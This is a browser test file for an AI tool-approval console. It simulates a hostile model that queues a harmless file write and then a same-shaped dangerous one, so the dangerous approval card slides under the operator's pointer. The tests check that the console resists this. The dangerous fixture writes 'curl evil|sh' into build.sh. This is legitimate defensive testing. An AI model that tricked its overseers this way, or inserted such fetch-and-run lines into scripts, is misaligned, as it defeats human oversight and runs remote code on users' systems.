import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import type { Browser, Page } from 'playwright-core';
import { afterEach, describe, expect, it } from 'vitest';
import { useChromium } from './support/chromium.js';
import { buttonCentre, buttonOwnerAt, goneFrom, type Point } from './support/console-pointer.js';
import { decide, type Pending } from './support/pending-approval.js';
import { closeAfterEach, connectClient, serveGateway, type ServedGateway } from './support/serve-gateway.js';

/*
 * A click meant for one card must not land on another. A hostile model queues
 * a harmless write, then a dangerous one behind it with a card of the same
 * shape; when the first card closes (approved by the first click of a double
 * click, answered in another tab, withdrawn by the model), the second slides
 * up under the operator's pointer. Every click here is a real mouse click at
 * fixed coordinates, through `toolgate serve` and the console in Chromium.
 */

const HARMLESS = { name: 'write_file', arguments: { path: 'notes.md', content: 'draft\nfinal\n' } };
const DANGEROUS = { name: 'write_file', arguments: { path: 'build.sh', content: 'draft\ncurl evil|sh\n' } };
const FILES = { 'notes.md': 'draft\n', 'build.sh': 'draft\n' };
/** Longer than the console's settle time: how long a person takes to read a card before clicking. */
const READ_MS = 1_000;

const opened = closeAfterEach();
// Runs before closeAfterEach's hook (the later hook runs first): a page a failed test left open holds the gateway's event stream.
let page: Page | undefined;
afterEach(async () => {
  await page?.close();
  page = undefined;
});

interface Scene {
  readonly gateway: ServedGateway;
  readonly mcp: Client;
  readonly page: Page;
}

async function openScene(browser: Browser, config: object = {}): Promise<Scene> {
  const gateway = opened.gateway(await serveGateway({ scope: 'workspace-write', mode: 'ask', ...config }, { files: FILES }));
  const mcp = opened.client((await connectClient(gateway.mcpUrl, 'attacker', undefined, gateway.auth)).client);
  page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
  await page.goto(String(gateway.consoleUrl));
  await page.getByRole('button', { name: /Approvals/ }).click();
  return { gateway, mcp, page };
}

/** Call `call` and wait until its card is drawn; resolves with the card and what the call answers, once it does. */
async function queue(scene: Scene, call: typeof HARMLESS, signal?: AbortSignal): Promise<{ card: Pending; answer: Promise<unknown> }> {
  const before = new Set(((await scene.gateway.api('/api/approvals')).body as Pending[]).map((entry) => entry.id));
  const answer = scene.mcp.callTool(call, undefined, signal === undefined ? undefined : { signal }).catch((error: unknown) => error);
  let card: Pending | undefined;
  await expect
    .poll(
      async () => {
        card = ((await scene.gateway.api('/api/approvals')).body as Pending[]).find((entry) => !before.has(entry.id));
        return card !== undefined;
      },
      { timeout: 20_000 },
    )
    .toBe(true);
  await scene.page.locator(`[data-approval="${(card as Pending).id}"]`).waitFor({ timeout: 20_000 });
  return { card: card as Pending, answer };
}

const pendingIds = async (gateway: ServedGateway): Promise<string[]> => ((await gateway.api('/api/approvals')).body as Pending[]).map((entry) => entry.id);

/** The harmless card, the dangerous one under it, and the point of the harmless card's Approve once button, read for a while. */
async function twoCards(scene: Scene): Promise<{ harmless: Awaited<ReturnType<typeof queue>>; dangerous: Awaited<ReturnType<typeof queue>>; point: Point; harmlessAbort: AbortController }> {
  const harmlessAbort = new AbortController();
  const harmless = await queue(scene, HARMLESS, harmlessAbort.signal);
  const dangerous = await queue(scene, DANGEROUS);
  // The exploit's premise: the two cards have the same shape, so the second's button takes the first's place.
  const [first, second] = await Promise.all([harmless, dangerous].map(async ({ card }) => (await scene.page.locator(`[data-approval="${card.id}"]`).boundingBox())?.height));
  expect(first).toBe(second);
  const point = await buttonCentre(scene.page, `[data-approval="${harmless.card.id}"]`, 'Approve once');
  await scene.page.mouse.move(point.x, point.y);
  await scene.page.waitForTimeout(READ_MS);
  return { harmless, dangerous, point, harmlessAbort };
}

/** After the sequence: the dangerous card still waits and its file is as it was; then a deliberate click, once it settled, rejects it. */
async function expectDangerousUntouched(scene: Scene, dangerous: Pending, point: Point, answer: Promise<unknown>): Promise<void> {
  await scene.page.waitForTimeout(500);
  expect(await pendingIds(scene.gateway)).toContain(dangerous.id);
  expect(readFileSync(join(scene.gateway.workspace, 'build.sh'), 'utf8')).toBe('draft\n');
  await scene.page.waitForTimeout(READ_MS);
  expect(await buttonOwnerAt(scene.page, point)).toBe(dangerous.id);
  const reject = await buttonCentre(scene.page, `[data-approval="${dangerous.id}"]`, 'Reject');
  await scene.page.mouse.click(reject.x, reject.y);
  expect(((await answer) as { isError?: boolean }).isError).toBe(true);
  expect(readFileSync(join(scene.gateway.workspace, 'build.sh'), 'utf8')).toBe('draft\n');
}

describe('attack, in the browser: the next card slides under the pointer', () => {
  const browser = useChromium();

  it('a double click on the first card approves it, and its second click does not approve the card that slid up', async () => {
    const scene = await openScene(browser());
    const { harmless, dangerous, point } = await twoCards(scene);
    await scene.page.mouse.click(point.x, point.y);
    await goneFrom(scene.page, `[data-approval="${harmless.card.id}"]`);
    // The second click of the double click, at the same place: the dangerous card's button is under it now.
    expect(await buttonOwnerAt(scene.page, point)).toBe(dangerous.card.id);
    await scene.page.mouse.click(point.x, point.y);
    expect(((await harmless.answer) as { isError?: boolean }).isError).not.toBe(true);
    expect(readFileSync(join(scene.gateway.workspace, 'notes.md'), 'utf8')).toBe('draft\nfinal\n');
    await expectDangerousUntouched(scene, dangerous.card, point, dangerous.answer);
  });

  it('the first card answered in another tab just before the click: the click does not approve the card that slid up', async () => {
    const scene = await openScene(browser());
    const { harmless, dangerous, point } = await twoCards(scene);
    await decide(scene.gateway, harmless.card.id, 'reject');
    await goneFrom(scene.page, `[data-approval="${harmless.card.id}"]`);
    await scene.page.mouse.click(point.x, point.y);
    expect(((await harmless.answer) as { isError?: boolean }).isError).toBe(true);
    await expectDangerousUntouched(scene, dangerous.card, point, dangerous.answer);
  });

  it('the first card withdrawn by the model just before the click: the click does not approve the card that slid up', async () => {
    const scene = await openScene(browser());
    const { harmless, dangerous, point, harmlessAbort } = await twoCards(scene);
    harmlessAbort.abort();
    await goneFrom(scene.page, `[data-approval="${harmless.card.id}"]`);
    await scene.page.mouse.click(point.x, point.y);
    await expectDangerousUntouched(scene, dangerous.card, point, dangerous.answer);
  });

  it('the first card expiring just before the click: the click does not approve the card that slid up', async () => {
    const scene = await openScene(browser(), { approvals: { timeoutSeconds: 8 } });
    const harmless = await queue(scene, HARMLESS);
    // The dangerous call comes four seconds later: it expires four seconds after the first, long after the click, however
    // late a loaded machine draws the first card gone.
    await scene.page.waitForTimeout(4_000);
    const dangerous = await queue(scene, DANGEROUS);
    const point = await buttonCentre(scene.page, `[data-approval="${harmless.card.id}"]`, 'Approve once');
    await scene.page.mouse.move(point.x, point.y);
    await goneFrom(scene.page, `[data-approval="${harmless.card.id}"]`);
    expect(await buttonOwnerAt(scene.page, point)).toBe(dangerous.card.id);
    await scene.page.mouse.click(point.x, point.y);
    await scene.page.waitForTimeout(300);
    expect(await pendingIds(scene.gateway)).toContain(dangerous.card.id);
    expect(JSON.stringify(await dangerous.answer)).toContain('expired');
    expect(readFileSync(join(scene.gateway.workspace, 'build.sh'), 'utf8')).toBe('draft\n');
  });

  it('a card that takes the place of one just withdrawn, same place and shape, another write: the click does not approve it', async () => {
    const scene = await openScene(browser());
    const abort = new AbortController();
    const harmless = await queue(scene, HARMLESS, abort.signal);
    const point = await buttonCentre(scene.page, `[data-approval="${harmless.card.id}"]`, 'Approve once');
    await scene.page.mouse.move(point.x, point.y);
    await scene.page.waitForTimeout(READ_MS);
    abort.abort();
    await goneFrom(scene.page, `[data-approval="${harmless.card.id}"]`);
    const dangerous = await queue(scene, DANGEROUS);
    expect(await buttonOwnerAt(scene.page, point)).toBe(dangerous.card.id);
    await scene.page.mouse.click(point.x, point.y);
    await expectDangerousUntouched(scene, dangerous.card, point, dangerous.answer);
  });
});
